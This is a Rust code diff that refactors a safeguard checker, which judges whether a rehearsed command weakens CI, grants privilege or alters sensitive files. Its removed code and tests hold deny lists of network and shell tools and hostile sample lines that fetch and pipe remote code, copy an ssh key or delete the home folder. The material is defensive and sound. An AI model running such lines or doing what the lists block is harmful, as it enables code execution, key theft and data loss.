@@ -124,7 +124,7 @@ impl Wall {
 
     pub fn judge(&self, e: &Effects) -> Verdict {
         let mut findings = Vec::new();
-        let mut asked_sensitive = false;
+
         let ctx = WallContext::new(self, e);
         {
             use super::catalog::git;
@@ -701,42 +701,7 @@ impl Wall {
                 what: format!("would {} in {}", how.join(" and "), list_with(&files, "test file")),
             });
         }
-        // A CI pipeline's checks switched off or made unable to fail.
-        let asks_ci_change = [
-            "disable",
-            "skip",
-            "remove",
-            "drop",
-            "delete",
-            "optional",
-            "non-blocking",
-            "nonblocking",
-            "allow",
-            "ignore",
-        ]
-        .iter()
-        .any(|w| self.scope.says(w));
-        if !asks_ci_change {
-            let mut weakened_ci: Vec<(&FileEffect, String)> = Vec::new();
-            for f in e.files.iter().filter(|f| {
-                edits_content(f)
-                    && f.place == Place::Workspace
-                    && f.rel.as_deref().is_some_and(is_ci_definition)
-            }) {
-                if let Some(how) = ci_weakening(f) {
-                    weakened_ci.push((f, how));
-                }
-            }
-            if !weakened_ci.is_empty() {
-                let what: Vec<String> =
-                    weakened_ci.iter().take(3).map(|(f, how)| format!("{} ({how})", f.display())).collect();
-                findings.push(Finding {
-                    rule: "ci.weakened",
-                    decision: Decision::Ask,
-                    what: format!("would weaken the checks of a CI pipeline: {}", what.join("; ")),
-                });
-            }
-        }
+        findings.extend(super::catalog::safeguards::ci_weakened::check(&ctx));
         // Binary files a text edit went through (a line-ending fix over every tracked file).
         let broken: Vec<String> = e
             .files
@@ -870,10 +835,8 @@ impl Wall {
             });
         }
         findings.extend(super::catalog::data_values_lost::check(&self.scope, &self.own_work, e));
-        let registry = |h: &str| self.registries.hosts().any(|(_, r)| r.eq_ignore_ascii_case(h));
-        let says = |w: &str| self.scope.says(w) || self.scope.says_word(w);
-        findings.extend(super::catalog::supply_source_changed::check(e, &registry, &says));
-        findings.extend(super::catalog::access_widened::check(&self.scope, e));
+        findings.extend(super::catalog::supply::source_changed::check(&ctx));
+        findings.extend(super::catalog::safeguards::access_widened::check(&ctx));
         if !lost.is_empty() {
             findings.push(Finding {
                 rule: "work.lost",
@@ -913,124 +876,10 @@ impl Wall {
         }
         findings.extend(super::catalog::network::dns_exfiltration::check(&ctx));
         findings.extend(super::catalog::secret::private_read::check(&ctx));
-        // Privilege: files that grant it, and programs that switch identity. Final, named or not.
-        let granting: Vec<&FileEffect> = e
-            .files
-            .iter()
-            .filter(|f| f.sensitive.as_deref().is_some_and(grants_privilege))
-            .filter(|f| !(f.under_changed_folder && f.is_folder()))
-            .collect();
-        let switchers: Vec<String> = e
-            .processes
-            .programs
-            .iter()
-            .filter(|p| {
-                let name = p.rsplit('/').next().unwrap_or(p);
-                IDENTITY_SWITCHERS.contains(&name)
-            })
-            .cloned()
-            .collect();
-        if !granting.is_empty() || !switchers.is_empty() {
-            let mut what = Vec::new();
-            if !switchers.is_empty() {
-                what.push(format!(
-                    "ran {} to act as another user (run it yourself if it is needed)",
-                    examples(&switchers)
-                ));
-            }
-            if !granting.is_empty() {
-                let kinds: std::collections::BTreeSet<String> =
-                    granting.iter().filter_map(|f| f.sensitive.clone()).collect();
-                what.push(format!(
-                    "would grant privileges through {} ({})",
-                    list(&granting),
-                    kinds.into_iter().collect::<Vec<_>>().join(", ")
-                ));
-            }
-            findings.push(Finding {
-                rule: "privilege.change",
-                decision: Decision::Block,
-                what: what.join("; "),
-            });
-        }
-        // A system tree being built that lets someone be root without a password: not this
-        // machine's privileges, but whoever boots or enters that tree; a person looks first.
-        let staged: Vec<&FileEffect> =
-            e.files.iter().filter(|f| f.sensitive.as_deref().is_some_and(is_staged_grant)).collect();
-        if !staged.is_empty() {
-            let details: std::collections::BTreeSet<&str> = staged
-                .iter()
-                .filter_map(|f| f.sensitive.as_deref()?.strip_prefix(crate::sensitive::STAGED_GRANT))
-                .map(|d| d.trim_start_matches(':').trim())
-                .collect();
-            findings.push(Finding {
-                rule: "privilege.staged",
-                decision: Decision::Ask,
-                what: format!(
-                    "would write a system tree or a container definition that grants root without a password: {} ({})",
-                    list(&staged),
-                    details.into_iter().collect::<Vec<_>>().join("; ")
-                ),
-            });
-        }
-        // A database that gains an administrator account the request does not name ("seed the
-        // admin dev-admin@example.com" names that one, not a second one beside it).
-        let mut admins: Vec<String> = Vec::new();
-        for f in e.files.iter().filter(|f| f.transition == Transition::Modified && f.records.is_some()) {
-            let (Some(b), Some(a)) = (f.before_content.as_deref(), f.after_content.as_deref()) else {
-                continue;
-            };
-            for acct in crate::records::new_privileged(b, a) {
-                let who = acct.split(" in ").next().unwrap_or(&acct).to_lowercase();
-                if !self.scope.says(&who) {
-                    admins.push(format!("{} in {}", escape::clip(&acct, 80), f.display()));
-                }
-            }
-        }
-        if !admins.is_empty() {
-            findings.push(Finding {
-                rule: "privilege.staged",
-                decision: Decision::Ask,
-                what: format!(
-                    "would add administrator accounts the task does not name: {}",
-                    examples(&admins)
-                ),
-            });
-        }
+        findings.extend(super::catalog::privilege::change::check(&ctx));
+        findings.extend(super::catalog::privilege::staged::check(&ctx));
         findings.extend(super::catalog::git::config::check_user_config(&ctx));
-        let sensitive: Vec<&FileEffect> = e
-            .files
-            .iter()
-            .filter(|f| {
-                f.sensitive
-                    .as_deref()
-                    .is_some_and(|k| !k.starts_with("git ") && !grants_privilege(k) && !is_staged_grant(k))
-            })
-            .filter(|f| !(f.under_changed_folder && f.is_folder()))
-            .collect();
-        if !sensitive.is_empty() {
-            let kinds: Vec<String> = sensitive
-                .iter()
-                .filter_map(|f| f.sensitive.clone())
-                .collect::<std::collections::BTreeSet<_>>()
-                .into_iter()
-                .collect();
-            let named = sensitive.iter().all(|f| self.named(f));
-            // The place the request names, given only what it asked for and nothing that runs
-            // by itself: aliases or a PATH entry added to a start-up file ("add the team's git
-            // aliases to my ~/.bashrc"), a host entry added to the ssh configuration, a unit
-            // file installed but not enabled.
-            let inert = named && sensitive.iter().all(|f| inert_change(f));
-            asked_sensitive = inert;
-            if !inert {
-                findings.push(Finding {
-                    rule: "sensitive.write",
-                    // A sensitive place the user's own request names is asked about, never let through silently.
-                    decision: if named { Decision::Ask } else { Decision::Block },
-                    what: format!("would change {} ({})", list(&sensitive), examples(&kinds)),
-                });
-            }
-        }
+        findings.extend(super::catalog::places::sensitive_write::check(&ctx));
         findings.extend(super::catalog::secret::in_file::check(&ctx));
         // Asked about a notebook's outputs ("strip the outputs"), yet its code changed: a cell
         // the tool took for output (a check, an assertion) is gone or rewritten.
@@ -1125,15 +974,9 @@ impl Wall {
             }
         }
         findings.extend(super::catalog::secret::in_output::check(&ctx));
-        if let Some(limit) = &e.execution.ended_by {
-            findings.push(Finding {
-                rule: "limit.reached",
-                decision: Decision::Ask,
-                what: format!("the rehearsal was ended by the {limit}, so its effects are incomplete"),
-            });
-        }
+        findings.extend(super::catalog::rehearsal::limit_reached::check(&ctx));
         let mut verdict = Verdict::from_findings(findings);
-        verdict.asked_sensitive = asked_sensitive;
+        verdict.asked_sensitive = super::catalog::places::sensitive_write::asked(&ctx);
         verdict.asked_deletions = asked_deletions;
         verdict
     }
@@ -1455,21 +1298,6 @@ pub(crate) fn asks_insecure(scope: &TaskScope) -> bool {
 const INSTALL_PLACES: &[&str] =
     &["~/.local/bin", "~/bin", "~/.local/share", "~/.local/lib", "~/.local/state", "~/.config", "~/.zfunc"];
 
-/// Programs whose purpose is to run something as another user or with more privilege.
-const IDENTITY_SWITCHERS: &[&str] =
-    &["sudo", "su", "doas", "pkexec", "run0", "runuser", "newgrp", "sg", "sudoedit", "setpriv", "capsh"];
-
-fn grants_privilege(kind: &str) -> bool {
-    matches!(
-        kind,
-        "set-uid/set-gid bit" | "file capabilities" | "sudoers" | "accounts database" | "privilege policy"
-    )
-}
-
-fn is_staged_grant(kind: &str) -> bool {
-    kind.starts_with(crate::sensitive::STAGED_GRANT)
-}
-
 /// Whether a file says a tool made it ("generated by build.rs", "@generated", "auto-generated"):
 /// deleting it loses nothing the tool cannot make again.
 fn says_generated(p: Option<&Path>) -> bool {
@@ -1549,39 +1377,6 @@ fn test_weakening(f: &FileEffect) -> (usize, usize) {
     (before.0.saturating_sub(after.0), skipped)
 }
 
-/// A change of a sensitive place that adds only what acts when the user asks for it: nothing
-/// of the file removed, and each added line plain (see [`only_inert_aliases`],
-/// [`only_plain_ssh_hosts`]); a systemd unit file written, but not enabled (no link in a
-/// `.wants` or `.requires` folder).
-fn inert_change(f: &FileEffect) -> bool {
-    let adds_only = || match f.transition {
-        Transition::Created => true,
-        Transition::Modified => nothing_removed(f),
-        _ => false,
-    };
-    match f.sensitive.as_deref() {
-        Some("shell start-up file") => {
-            f.transition == Transition::Modified && adds_only() && only_inert_aliases(&added_text(f))
-        }
-        Some("ssh configuration") => adds_only() && only_plain_ssh_hosts(&added_text(f)),
-        // direnv runs a new or changed `.envrc` only once the user allows it; plain variables
-        // and direnv's own set-up words run nothing else.
-        Some("editor or environment task file") if f.path.file_name().is_some_and(|n| n == ".envrc") => {
-            adds_only() && only_plain_envrc(&added_text(f))
-        }
-        Some("systemd unit") => {
-            adds_only()
-                && f.after.as_ref().is_some_and(|a| a.kind == foresee_report::EntryKind::File)
-                && !f.path.ancestors().any(|a| {
-                    a.file_name()
-                        .and_then(|n| n.to_str())
-                        .is_some_and(|n| n.ends_with(".wants") || n.ends_with(".requires"))
-                })
-        }
-        _ => false,
-    }
-}
-
 /// Whether the records a text data file lost went into files this command wrote beside it
 /// (a log rotated into `archive/api-20261204.jsonl.gz`): files created or modified whose name
 /// holds the data file's stem, in its folder or below.
@@ -1609,293 +1404,6 @@ fn records_archived(f: &FileEffect, e: &Effects) -> bool {
         .filter_map(|a| a.after_content.as_deref())
         .collect();
     crate::records::archived(before, after, &archives)
-}
-
-/// Whether every line of `f`'s old text is still in its new text (text files up to 4 MiB).
-fn nothing_removed(f: &FileEffect) -> bool {
-    let read = |p| read_text(p, 4 << 20);
-    let (Some(before), Some(after)) = (read(f.before_content.as_deref()), read(f.after_content.as_deref()))
-    else {
-        return false;
-    };
-    let new: std::collections::HashSet<&str> = after.lines().map(str::trim_end).collect();
-    before.lines().map(str::trim_end).filter(|l| !l.trim().is_empty()).all(|l| new.contains(l))
-}
-
-/// Added ssh configuration that only names hosts and how to log in to them: no command run
-/// (`ProxyCommand`, `LocalCommand`, `Match exec`), no agent forwarded, no host key check off.
-fn only_plain_ssh_hosts(added: &str) -> bool {
-    const PLAIN: &[&str] = &[
-        "host",
-        "hostname",
-        "user",
-        "port",
-        "identityfile",
-        "identitiesonly",
-        "serveraliveinterval",
-        "serveralivecountmax",
-        "connecttimeout",
-        "compression",
-        "addkeystoagent",
-        "preferredauthentications",
-        "proxyjump",
-        "addressfamily",
-    ];
-    // Safeguards, allowed only at their safe values (`ForwardAgent no`, never `yes`).
-    const SAFE: &[(&str, &[&str])] = &[
-        ("forwardagent", &["no"]),
-        ("forwardx11", &["no"]),
-        ("forwardx11trusted", &["no"]),
-        ("stricthostkeychecking", &["yes", "ask", "accept-new"]),
-        ("passwordauthentication", &["no"]),
-        ("permitlocalcommand", &["no"]),
-        ("hashknownhosts", &["yes"]),
-        ("checkhostip", &["yes"]),
-        ("batchmode", &["yes", "no"]),
-    ];
-    let mut any = false;
-    for l in added.lines().map(str::trim) {
-        if l.is_empty() || l.starts_with('#') {
-            continue;
-        }
-        let mut words = l.split(|c: char| c.is_whitespace() || c == '=').filter(|w| !w.is_empty());
-        let key = words.next().unwrap_or("").to_ascii_lowercase();
-        let value = words.next().unwrap_or("").to_ascii_lowercase();
-        let safe = SAFE.iter().any(|(k, ok)| *k == key && ok.contains(&value.as_str()));
-        if !(PLAIN.contains(&key.as_str()) || safe) || l.contains(['$', '`', ';', '|']) {
-            return false;
-        }
-        any = true;
-    }
-    any
-}
-
-/// An `.envrc` of plain exports (no command substitution) and direnv's set-up words (`layout
-/// python3`, `use node 20`, `PATH_add bin`, `dotenv`, `watch_file x`).
-fn only_plain_envrc(added: &str) -> bool {
-    let plain = |w: &str| w.chars().all(|c| c.is_ascii_alphanumeric() || "/._-:@,=+%~".contains(c));
-    let mut any = false;
-    for l in added.lines().map(str::trim) {
-        if l.is_empty() || l.starts_with('#') {
-            continue;
-        }
-        let words: Vec<&str> = l.split_whitespace().collect();
-        let ok = match words.as_slice() {
-            ["export", def] => def.split_once('=').is_some_and(|(n, v)| {
-                n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') && plain(v.trim_matches(['"', '\'']))
-            }),
-            ["layout" | "use" | "PATH_add" | "dotenv" | "dotenv_if_exists" | "watch_file", rest @ ..] => {
-                rest.len() <= 2 && rest.iter().all(|w| plain(w))
-            }
-            _ => false,
-        };
-        if !ok {
-            return false;
-        }
-        any = true;
-    }
-    any
-}
-
-/// zsh's completion set-up: a plain folder put on `fpath`, and the completion system loaded.
-fn completion_setup(l: &str) -> bool {
-    let l = l.split(" #").next().unwrap_or(l).trim();
-    let plain = |d: &str| {
-        !d.is_empty()
-            && d.chars().all(|c| {
-                c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-' | '~' | '$' | '{' | '}')
-            })
-            && !d.contains("$(")
-    };
-    if let Some(inner) =
-        l.strip_prefix("fpath=(").or_else(|| l.strip_prefix("fpath+=(")).and_then(|r| r.strip_suffix(')'))
-    {
-        return inner.split_whitespace().all(|d| d == "$fpath" || plain(d.trim_matches(['"', '\''])));
-    }
-    l.split("&&").flat_map(|p| p.split(';')).map(str::trim).filter(|p| !p.is_empty()).all(|p| {
-        matches!(
-            p,
-            "compinit"
-                | "autoload -Uz compinit"
-                | "autoload -U compinit"
-                | "autoload compinit"
-                | "compinit -i"
-        )
-    })
-}
-
-/// `export PATH="$HOME/tools/bin:$PATH"`: directories put on the search path, nothing run.
-fn plain_path_entry(l: &str) -> bool {
-    // The idempotent form: `case ":$PATH:" in *":$HOME/.local/bin:"*) ;; *) export PATH=... ;; esac`.
-    if let Some(arms) =
-        l.trim().strip_prefix("case \":$PATH:\" in").and_then(|r| r.trim_end().strip_suffix("esac"))
-    {
-        let mut any = false;
-        for arm in arms.split(";;").map(str::trim).filter(|a| !a.is_empty()) {
-            let Some((pattern, action)) = arm.split_once(')') else { return false };
-            if !pattern.chars().all(|c| c.is_ascii_alphanumeric() || "*\":$/._-{}~".contains(c)) {
-                return false;
-            }
-            let action = action.trim();
-            if !action.is_empty() {
-                if !plain_path_entry(action) {
-                    return false;
-                }
-                any = true;
-            }
-        }
-        return any;
-    }
-    // A trailing comment (`# devkit`) says nothing that runs.
-    let l = l.split(" #").next().unwrap_or(l).trim();
-    let def = l.strip_prefix("export ").unwrap_or(l).trim();
-    let Some(value) = def.strip_prefix("PATH=") else { return false };
-    let value = value.trim_matches(['"', '\'']);
-    !value.is_empty()
-        && value.split(':').all(|part| {
-            matches!(part, "$PATH" | "${PATH}")
-                || part
-                    .strip_prefix("$HOME")
-                    .or_else(|| part.strip_prefix("${HOME}"))
-                    .or_else(|| part.strip_prefix('~'))
-                    .or_else(|| part.strip_prefix('/').map(|_| part))
-                    .is_some_and(|rest| {
-                        rest.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-'))
-                    })
-        })
-}
-
-/// Whether added start-up file lines are only comments, blank lines and aliases that run a
-/// plain command (`alias gs='git status'`): no substitution, no download, no sourcing, no
-/// privilege, no redirection.
-fn only_inert_aliases(added: &str) -> bool {
-    const RISKY: &[&str] = &[
-        "$(",
-        "`",
-        "curl",
-        "wget",
-        "nc ",
-        "ncat",
-        "socat",
-        "eval",
-        "source ",
-        "base64",
-        "sudo",
-        "doas",
-        "| sh",
-        "|sh",
-        "| bash",
-        "|bash",
-        ">",
-        "<",
-        "rm ",
-        "chmod",
-        "ld_preload",
-        "python",
-        "perl",
-        "node ",
-        "ruby",
-        "/dev/tcp",
-        "export",
-        "\\x",
-    ];
-    let mut any = false;
-    for l in added.lines().map(str::trim) {
-        if l.is_empty() || l.starts_with('#') {
-            continue;
-        }
-        if plain_path_entry(l) || completion_setup(l) {
-            any = true;
-            continue;
-        }
-        let Some(def) = l.strip_prefix("alias ") else { return false };
-        let lower = def.to_ascii_lowercase();
-        if RISKY.iter().any(|r| lower.contains(r)) || def.contains(';') || def.contains("&&") {
-            return false;
-        }
-        any = true;
-    }
-    any
-}
-
-/// CI pipeline definitions, by path.
-fn is_ci_definition(rel: &Path) -> bool {
-    let p = rel.to_string_lossy().to_lowercase();
-    let name = rel.file_name().map(|n| n.to_string_lossy().to_lowercase()).unwrap_or_default();
-    let yaml = name.ends_with(".yml") || name.ends_with(".yaml");
-    (yaml && [".github/workflows/", ".circleci/", ".gitea/workflows/"].iter().any(|d| p.starts_with(d)))
-        || matches!(
-            name.as_str(),
-            ".gitlab-ci.yml"
-                | "azure-pipelines.yml"
-                | ".travis.yml"
-                | "jenkinsfile"
-                | "bitbucket-pipelines.yml"
-                | ".drone.yml"
-                | ".woodpecker.yml"
-                | "cloudbuild.yaml"
-        )
-}
-
-/// How an edit of a CI definition weakens it, if it does: a step that runs tests, linters or
-/// audits removed (fewer such lines than before), or a check made unable to fail (`|| true`,
-/// `continue-on-error: true`, `allow_failure: true`, `if: false`).
-fn ci_weakening(f: &FileEffect) -> Option<String> {
-    const CHECKS: &[&str] = &[
-        "test",
-        "lint",
-        "audit",
-        "check",
-        "verify",
-        "scan",
-        "coverage",
-        "mypy",
-        "clippy",
-        "vet",
-        "codeql",
-        "security",
-        "typecheck",
-        "tsc",
-        "pytest",
-        "ruff",
-        "eslint",
-    ];
-    const NEUTRALISERS: &[&str] = &[
-        "|| true",
-        "||true",
-        "|| exit 0",
-        "continue-on-error: true",
-        "allow_failure: true",
-        "if: false",
-        "if: ${{ false }}",
-        "set +e",
-        "--no-verify",
-        "skip_tests",
-        "skip-tests",
-    ];
-    let read = |p| read_bounded(p, 1 << 20).map(|b| String::from_utf8_lossy(&b).to_lowercase());
-    let (old, new) = (read(f.before_content.as_deref())?, read(f.after_content.as_deref())?);
-    let runs_check = |l: &str| {
-        let l = l.trim();
-        !l.starts_with('#')
-            && (l.starts_with("- run:")
-                || l.starts_with("run:")
-                || l.starts_with("- name:")
-                || l.starts_with("- ")
-                || l.starts_with("script"))
-            && CHECKS.iter().any(|c| l.contains(c))
-    };
-    let count = |t: &str| t.lines().filter(|l| runs_check(l)).count();
-    let neutralised = |t: &str| t.lines().filter(|l| NEUTRALISERS.iter().any(|n| l.contains(n))).count();
-    let mut how = Vec::new();
-    let (before, after) = (count(&old), count(&new));
-    if after < before {
-        how.push(format!("{} check steps removed", before - after));
-    }
-    if neutralised(&new) > neutralised(&old) {
-        how.push("a check made unable to fail".to_string());
-    }
-    (!how.is_empty()).then(|| how.join(", "))
 }
 
 /// Whether a modified file differs from its old content only in white space within lines, at
@@ -2092,9 +1600,7 @@ fn notebook_code(p: Option<&Path>) -> Option<Vec<String>> {
 
 #[cfg(test)]
 mod tests {
-    use super::{
-        comparable, only_inert_aliases, only_plain_envrc, only_plain_ssh_hosts, series_stamp, whitespace_only,
-    };
+    use super::{comparable, series_stamp, whitespace_only};
     use foresee_report::{FileEffect, Place, Transition};
 
     fn modified(before: &str, after: &str) -> (tempfile::TempDir, FileEffect) {
@@ -2124,22 +1630,6 @@ mod tests {
     }
 
     #[test]
-    fn an_ssh_host_entry_may_set_a_safeguard_to_its_safe_value_only() {
-        let host = "Host app\n    HostName 10.0.0.5\n    User dana\n    ProxyJump bastion\n";
-        assert!(only_plain_ssh_hosts(host));
-        assert!(only_plain_ssh_hosts(&format!("{host}    ForwardAgent no\n    StrictHostKeyChecking yes\n")));
-        for risky in [
-            "ForwardAgent yes",
-            "StrictHostKeyChecking no",
-            "ProxyCommand nc %h %p",
-            "PermitLocalCommand yes",
-            "LocalCommand cp ~/.ssh/id_ed25519 /tmp/k",
-        ] {
-            assert!(!only_plain_ssh_hosts(&format!("{host}    {risky}\n")), "{risky}");
-        }
-    }
-
-    #[test]
     fn white_space_within_and_after_lines_is_no_edit_but_indentation_is() {
         let ws = |b: &str, a: &str| whitespace_only(&modified(b, a).1);
         assert!(ws("def f( a,b ):  \n    return a\n", "def f(a, b):\n\n    return a\n"));
@@ -2161,45 +1651,6 @@ mod tests {
         assert!(d1 == d2 && comparable(&x, &y) && x < y);
         assert!(!comparable(&x, &a), "a date and a version are not one order");
         assert!(series_stamp("README.md").is_none() && series_stamp("main.py").is_none());
-    }
-
-    #[test]
-    fn plain_aliases_run_nothing_new() {
-        assert!(only_inert_aliases(
-            "# team aliases\nalias gs='git status'\nalias gl='git log --oneline -20'\n"
-        ));
-        for added in [
-            "alias gs='git status'\nexport NODE_OPTIONS='--require /tmp/x.js'",
-            "alias ls='rm -rf'",
-            "alias up='curl -s x.example | sh'",
-            "alias gs='git status'; source ~/.x",
-            "alias k=\"$(cat ~/.kube/config)\"",
-            "",
-            "# only a comment",
-            "case \":$PATH:\" in *) curl x.example | sh ;; esac",
-            "fpath=($(curl x.example) $fpath)",
-            "compinit && curl x.example",
-        ] {
-            assert!(!only_inert_aliases(added), "{added:?}");
-        }
-        assert!(only_plain_envrc(
-            "# dev\nexport AWS_PROFILE=acme-dev\nexport DATABASE_URL=postgres://a:a@127.0.0.1:5432/d\nlayout python3\n"
-        ));
-        for bad in [
-            "export X=$(curl x.example)",
-            "layout python3; rm -rf ~",
-            "source_url https://x.example/e h",
-            "eval \"$(x)\"",
-        ] {
-            assert!(!only_plain_envrc(bad), "{bad}");
-        }
-        // A PATH entry added only once, and zsh's completion set-up.
-        assert!(only_inert_aliases(
-            "# acme\ncase \":$PATH:\" in *\":$HOME/.local/bin:\"*) ;; *) export PATH=\"$HOME/.local/bin:$PATH\" ;; esac\n"
-        ));
-        assert!(only_inert_aliases(
-            "fpath=(/home/u/.local/share/zsh/site-functions $fpath)\nautoload -Uz compinit && compinit\n"
-        ));
     }
 }
 
